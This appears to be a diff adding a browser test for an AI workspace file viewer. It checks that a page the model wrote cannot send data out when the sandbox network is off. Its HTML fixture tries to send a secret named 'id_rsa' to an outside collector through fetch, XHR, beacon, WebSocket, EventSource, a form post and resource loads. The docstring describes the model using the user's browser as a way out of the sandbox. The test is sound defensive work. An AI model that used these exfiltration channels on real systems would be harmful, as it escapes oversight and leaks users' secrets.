@@ -365,3 +365,86 @@ def test_a_markdown_table_is_drawn_as_a_table_and_a_long_cell_wraps(page, web, s
     expect(page.locator(".assistant")).to_contain_text("That is all.")
     answer, cell = page.locator(".assistant").bounding_box(), table.locator("td").first.bounding_box()
     assert cell["x"] + cell["width"] <= answer["x"] + answer["width"]  # wrapped inside the answer, not cut
+
+
+LEAKY = """<!doctype html><html><head><meta charset="utf-8"><title>leaky</title>
+<link rel="stylesheet" href="own.css"><link rel="stylesheet" href="{out}/css">
+<link rel="prefetch" href="{out}/prefetch"><script src="{out}/script"></script>
+<style>body {{ background-image: url("{out}/background"); }}</style>
+</head><body><h1>leaky</h1><ul id="out"></ul><img id="own" src="sprite.png"><img src="{out}/img">
+<form id="post" method="post" action="{out}/form"><input name="secret" value="id_rsa"></form>
+<script src="own.js"></script>
+<script>
+function say(line) {{ const li = document.createElement("li"); li.textContent = line;
+  document.getElementById("out").append(li); }}
+const own = document.getElementById("own");
+say("own image: " + (own.complete && own.naturalWidth === 8 ? "loaded" : "waiting"));
+own.onload = () => say("own image: loaded");
+say("own style: " + getComputedStyle(document.querySelector("h1")).color);
+new Image().src = "{out}/image?secret=id_rsa";
+try {{ navigator.sendBeacon("{out}/beacon", "id_rsa"); }} catch (e) {{}}
+try {{ new WebSocket("{ws}/socket"); }} catch (e) {{}}
+try {{ new EventSource("{out}/events"); }} catch (e) {{}}
+try {{ const x = new XMLHttpRequest(); x.open("POST", "{out}/xhr"); x.send("id_rsa"); }} catch (e) {{}}
+fetch("{out}/fetch?secret=id_rsa", {{method: "POST", mode: "no-cors", body: "id_rsa"}})
+  .then(() => say("fetch: sent"), () => say("fetch: blocked"))
+  .then(() => fetch("sprite.png")).then(() => say("own fetch: sent"), () => say("own fetch: blocked"))
+  .then(() => say("done"));
+</script></body></html>"""
+
+
+@pytest.fixture
+def collector():
+    """Another local server, as a page with the network off would try to reach: it records every
+    request that arrives (any method, any path), and answers each."""
+    import http.server
+    import threading
+    seen: list[str] = []
+
+    class Record(http.server.BaseHTTPRequestHandler):
+        def answer(self) -> None:
+            seen.append(f"{self.command} {self.path}")
+            self.send_response(200)
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+        do_GET = do_POST = do_HEAD = do_OPTIONS = answer
+
+        def log_message(self, *args) -> None:
+            pass
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"127.0.0.1:{server.server_address[1]}", seen
+    server.shutdown()
+    server.server_close()
+
+
+def test_a_viewed_page_reaches_no_other_server(page, web, collector):
+    """With sandbox_network=off the user's browser would be the model's way out: a page it wrote
+    and the viewer shows may load its own script, style and image from the workspace, and can
+    send nothing anywhere (fetch, XHR, beacon, WebSocket, EventSource, form post, image, style,
+    script or prefetch of another server), in the viewer's frame or opened on its own. Not even
+    its own files can be fetched (connect-src 'none'): scripts, styles and images load them."""
+    where, seen = collector
+    (web.workspace / "sprite.png").write_bytes(png(8, 8))
+    (web.workspace / "own.css").write_text("h1 { color: rgb(1, 2, 3); }\n")
+    (web.workspace / "own.js").write_text('window.addEventListener("load", () => say("own script: ran"));\n')
+    (web.workspace / "leaky.html").write_text(LEAKY.format(out=f"http://{where}", ws=f"ws://{where}"))
+    page.locator("#files li").filter(has_text="leaky.html").click()
+    frame = page.frame_locator("#viewer iframe")
+    expect(frame.locator("#out")).to_contain_text("done")
+    expect(frame.locator("#out")).to_contain_text("own script: ran")
+    expect(frame.locator("#out")).to_contain_text("own image: loaded")
+    lines = frame.locator("#out li").all_text_contents()
+    assert "own style: rgb(1, 2, 3)" in lines and "fetch: blocked" in lines and "own fetch: blocked" in lines, lines
+    src = page.locator("#viewer iframe").get_attribute("src")
+    alone = page.context.new_page()  # the same file opened on its own in a tab
+    alone.goto(web.base + src)
+    expect(alone.locator("#out")).to_contain_text("done")
+    assert "fetch: blocked" in alone.locator("#out li").all_text_contents()
+    alone.evaluate('document.getElementById("post").submit()')  # (Chromium shows an error page)
+    alone.close()
+    time.sleep(1.0)  # anything sent would have arrived by now
+    assert seen == []
+    policy = web.client.get(src).headers["content-security-policy"]
+    assert "connect-src 'none'" in policy and "form-action 'none'" in policy and "default-src 'none'" in policy
